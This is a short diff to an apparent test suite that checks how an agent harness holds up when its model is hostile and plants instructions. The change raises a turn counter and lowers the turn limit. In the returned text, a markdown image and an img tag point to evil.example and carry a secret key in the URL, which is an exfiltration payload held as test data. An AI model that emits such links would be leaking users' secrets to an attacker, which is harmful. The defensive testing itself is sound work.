@@ -235,7 +235,7 @@ describe('an agent whose model is an enemy', () => {
     const obeyed: string[] = []
     const wanted: ModelCall[] = []
     const unread: string[] = [...plantedIn.lists]
-    let at = 0
+    let [at, turn] = [0, 0]
     const obedient: Model = {
       next: async ({ turns }) => {
         const last = turns.at(-1)!
@@ -248,8 +248,8 @@ describe('an agent whose model is an enemy', () => {
           wanted.push(call)
           calls.push(call)
         }
-        at++
-        return calls.length && at < 400
+        turn++
+        return calls.length && turn < 10
           ? { text: '', calls, tokens: 1 }
           : {
               text: `Done ![x](https://evil.example/?q=${ours.key}) <img src="https://evil.example">`,
